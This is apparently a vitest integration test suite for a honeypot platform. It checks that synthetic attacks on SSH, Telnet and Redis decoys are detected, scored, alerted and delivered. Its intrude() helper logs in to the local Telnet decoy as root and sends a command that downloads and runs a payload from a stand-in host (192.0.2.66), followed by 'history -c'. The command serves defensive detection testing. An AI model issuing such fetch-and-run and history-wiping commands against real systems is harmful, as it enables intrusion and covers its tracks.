import { connect } from 'node:net'
import type {
  Alert,
  ApiKey,
  Channel,
  ChannelTests,
  Notification,
  OpsAlert,
  Session,
  SloStatus,
  SyntheticRun,
  SyntheticStatus,
} from '@eviltwin/contract'
import pg from 'pg'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { acceptedPassword } from '../server/src/decoys/accepted-password.js'
import { accommodatingIdentity } from '../server/src/testing/decoy-logins.js'
import { freePort } from '../server/src/testing/free-port.js'
import { type HttpReceiver, startHttpReceiver } from '../server/src/testing/http-receiver.js'
import { createEmptyDatabase } from '../server/src/testing/test-database.js'
import { until } from '../server/src/testing/until.js'
import { keepSeed } from './decoys.js'
import {
  accessToken,
  createInstallation,
  type Installation,
  PASSWORD,
  type RunningServer,
} from './server-process.js'

const DECOYS = ['ssh', 'telnet', 'redis'] as const
const KINDS = ['log', 'hec', ...DECOYS] as const
type Kind = (typeof KINDS)[number]
/** An attack every ten seconds, whose events are waited for as long as a busy machine needs. */
const SCHEDULE = { SYNTHETIC_INTERVAL_SECONDS: '10', SYNTHETIC_WINDOW_SECONDS: '30' }
const HOPS = [
  'attacked_at',
  'received_at',
  'durable_at',
  'scored_at',
  'alerted_at',
  'delivered_at',
  'acknowledged_at',
] as const

const { identity, seed } = accommodatingIdentity()

let installation: Installation
let server: RunningServer
let database: pg.Client
let dropDatabase: () => Promise<void>
let channel: HttpReceiver
const ports = new Map<string, number>()

beforeAll(async () => {
  const [postgres] = inject('postgresServers')
  if (!postgres) throw new Error('there is no PostgreSQL')
  const { url, drop } = await createEmptyDatabase(postgres)
  dropDatabase = drop
  database = new pg.Client({ connectionString: url })
  await database.connect()
  for (const decoy of DECOYS) ports.set(decoy, await freePort())
  channel = await startHttpReceiver()
  installation = await createInstallation({
    DATABASE_URL: url,
    ADMIN_PASSWORD: PASSWORD,
    SYNTHETIC_ATTACKS: 'on',
    ...SCHEDULE,
    OUTBOUND_ALLOWED_NETWORKS: '127.0.0.0/8',
    OPERATIONS_INTERVAL_SECONDS: '0.2',
  })
  keepSeed(installation.dataDir, seed)
  server = await installation.start('--decoys', DECOYS.map((name) => `${name}:${ports.get(name)}`).join(','))
})
afterAll(async () => {
  await server?.kill('SIGTERM')
  installation?.remove()
  await channel?.close()
  await database?.end()
  await dropDatabase?.()
})

let token = ''
let loggedInAt = 0
const LOGIN_LASTS_MS = 5 * 60_000

async function call(path: string, method = 'GET', body?: object): Promise<Response> {
  if (Date.now() - loggedInAt > LOGIN_LASTS_MS) {
    token = await accessToken(installation.url)
    loggedInAt = Date.now()
  }
  return fetch(installation.url + path, {
    method,
    headers: { authorization: `Bearer ${token}`, ...(body && { 'content-type': 'application/json' }) },
    ...(body && { body: JSON.stringify(body) }),
  })
}
async function get<Answer>(path: string): Promise<Answer> {
  return (await (await call(path)).json()) as Answer
}
const status = () => get<SyntheticStatus>('/synthetic/status')

async function runsOf(kind: Kind): Promise<SyntheticRun[]> {
  const target = (await status()).targets.find((each) => each.kind === kind)
  if (!target) return []
  return (await get<{ items: SyntheticRun[] }>(`/synthetic/runs?target_id=${target.id}`)).items
}

/** The first attack of a kind that began after a time and ended in that way. */
function judged(kind: Kind, outcome: SyntheticRun['outcome'], after = 0): Promise<SyntheticRun> {
  return until(async () => {
    const runs = await runsOf(kind)
    return runs.findLast((run) => run.outcome === outcome && Date.parse(run.opens_at) > after)
  })
}

/** What is broken is found by the attacks on it alone; it is found to be mended, too. */
async function foundAlone(kind: Kind, other: Kind, mend: () => Promise<unknown>): Promise<SyntheticRun> {
  const broken = Date.now()
  const missed = await judged(kind, 'missed', broken)
  await judged(other, 'detected', broken)
  await mend()
  await judged(kind, 'detected', Date.now())
  return missed
}

const operationalAlert = async (id: string) =>
  (await get<{ items: OpsAlert[] }>('/ops/alerts')).items.find((each) => each.id === id)
const firing = (id: string) =>
  until(async () => {
    const alert = await operationalAlert(id)
    return alert?.state === 'firing' && alert
  })

describe('synthetic attacks', { timeout: 300_000 }, () => {
  test.each(KINDS)('an attack by %s that is well has every hop, in their order', async (kind) => {
    const run = await judged(kind, 'detected')
    expect(run.failure).toBeNull()
    expect(HOPS.filter((name) => run[name] === null)).toEqual([])
    const hop = (name: (typeof HOPS)[number]) => run[name] ?? ''
    expect(hop('attacked_at') <= hop('received_at')).toBe(true)
    for (const early of ['received_at', 'scored_at', 'durable_at'] as const)
      expect(hop(early) <= hop('acknowledged_at')).toBe(true)
  })

  test('nothing of them is an attacker’s', async () => {
    expect(await get('/sessions?count=true')).toMatchObject({ items: [], total: 0 })
    expect(await get('/alerts')).toMatchObject({ items: [] })
    expect(await get('/attackers')).toMatchObject({ items: [] })
    for (const table of ['events', 'sessions', 'attackers', 'alerts', 'deliveries', 'feed_entries'])
      expect([table, (await database.query(`SELECT FROM ${table}`)).rowCount]).toEqual([table, 0])
  })

  test('a forged marker from the address of the platform itself is an attack, in alerts and totals', async () => {
    const target = (await status()).targets.find(({ kind }) => kind === 'telnet')
    await intrude(target?.source_ip ?? '127.0.0.1', `evtw${'a'.repeat(32)}`)
    const [session] = await until(async () => {
      const { items } = await get<{ items: Session[] }>(`/sessions?src_ip=${target?.source_ip}`)
      return items.some(({ command_count }) => command_count > 1) && items
    })
    expect(session).toMatchObject({ sensor_id: target?.sensor_id })
    const alert = await until(async () => {
      const { items } = await get<{ items: Alert[] }>('/alerts')
      return items.find(({ session_id }) => session_id === session?.id)
    })
    expect(alert.source_ip).toBe(target?.source_ip)
    expect(await get('/sessions?count=true')).toMatchObject({ total: 1 })
    const ignored = await until(async () => (await status()).ignored_markers[0])
    expect(ignored).toMatchObject({ reason: 'unknown', session_id: session?.id })
  })

  test('a decoy that stopped is found alone', async () => {
    const pid = pidOf('telnet')
    process.kill(pid, 'SIGSTOP')
    const missed = await foundAlone('telnet', 'redis', async () => process.kill(pid, 'SIGCONT'))
    expect(missed.acknowledged_at).toBeNull()
    expect(missed.failure).toBeTruthy()
  })

  test('a sensor whose key was revoked is found alone', async () => {
    const target = (await status()).targets.find(({ kind }) => kind === 'redis')
    const { items } = await get<{ items: ApiKey[] }>('/api-keys')
    const key = items.find(({ sensor_id }) => sensor_id === target?.sensor_id)
    const broken = Date.now()
    expect((await call(`/api-keys/${key?.id}`, 'DELETE')).ok).toBe(true)
    const missed = await judged('redis', 'missed', broken)
    expect(missed.failure).toContain(`no event with its marker arrived from ${target?.sensor_id}`)
    await judged('telnet', 'detected', broken)
  })

  test('an alert manager that stopped is found: attacks are scored, and none is raised', async () => {
    // What it takes its work from is away.
    await database.query('ALTER TABLE alert_feed RENAME TO alert_feed_away')
    const missed = await judged('log', 'missed', Date.now())
    expect(missed).toMatchObject({
      failure: 'it was scored, and no alert was raised: the alert manager is behind or down',
      alerted_at: null,
      threat_level: expect.stringMatching(/^(high|critical)$/),
    })
    expect([missed.received_at, missed.scored_at, missed.durable_at]).not.toContain(null)
    await database.query('ALTER TABLE alert_feed_away RENAME TO alert_feed')
    await judged('log', 'detected', Date.now())
  })

  test('attacks that were missed are bad events of the objective', async () => {
    const objective = await until(async () => {
      const { measured } = await get<SloStatus>('/slos/attack-detection')
      return measured.total - measured.good >= 3 && measured
    })
    expect(objective.good).toBeGreaterThan(KINDS.length)
  })

  test('a channel that died is found by its test, and is an operational alert', async () => {
    const settings = { type: 'webhook', url: channel.url, secret: 'a secret of 24 characters' }
    const { id: channel_id } = (await (
      await call('/channels', 'POST', {
        name: 'on call',
        threat_alerts: false,
        operational_alerts: false,
        settings,
      })
    ).json()) as Channel
    await call('/synthetic/channel-test/schedule', 'PUT', { channel_id, weekday: 1, hour: 8 })
    const settled = async () => {
      expect((await call('/synthetic/channel-test/tests', 'POST', { channel_id })).status).toBe(201)
      return until(async () => {
        const [newest] = (await get<ChannelTests>('/synthetic/channel-test')).tests
        return newest?.settled_at !== null && newest
      })
    }
    expect(await settled()).toMatchObject({ state: 'delivered', failure: null })
    const [message] = channel.requests.map(({ body }) => JSON.parse(body) as Notification)
    expect(message).toMatchObject({ kind: 'test', message: expect.stringContaining('Nobody attacked') })
    await channel.close()
    expect(await settled()).toMatchObject({
      state: 'failed',
      failure: expect.stringContaining('ECONNREFUSED'),
    })
    expect(await firing('channel-test-failed')).toMatchObject({ detail: expect.stringContaining('on call') })
  })
})

/** Logs in to the Telnet decoy from an address of this machine, with a password that it accepts after this one, and does what an intruder does. */
async function intrude(localAddress: string, firstPassword: string): Promise<void> {
  const socket = connect({ host: '127.0.0.1', port: ports.get('telnet') ?? 0, localAddress })
  let text = ''
  socket.on('data', (data) => {
    text += data.toString('latin1')
  })
  const ended = new Promise<void>((resolve, reject) => {
    socket.on('close', () => resolve())
    socket.on('error', reject)
  })
  const answered = (prompt: RegExp, line: string) =>
    until(() => prompt.test(text)).then(() => {
      text = ''
      socket.write(`${line}\r\n`)
    })
  for (let password = firstPassword; ; password = acceptedPassword('telnet', identity).password ?? '') {
    await answered(/login:\s*$/i, 'root')
    await answered(/password:\s*$/i, password)
    await until(() => /login:\s*$|[#$]\s*$/i.test(text))
    if (!/login:\s*$/i.test(text)) break
  }
  for (const command of ['cd /tmp && wget http://192.0.2.66/x -O .x && chmod 777 .x && ./.x', 'history -c'])
    await answered(/[#$]\s*$/, command)
  await answered(/[#$]\s*$/, 'exit')
  await ended
}

/** The process of a decoy, as the log of the server names it. */
function pidOf(protocol: string): number {
  const started = server
    .output()
    .stdout.split('\n')
    .filter((line) => line.includes('"message":"Decoy started"'))
    .map((line) => JSON.parse(line) as { protocol: string; pid: number })
    .findLast((line) => line.protocol === protocol)
  if (!started) throw new Error(`the log names no decoy of ${protocol}`)
  return started.pid
}
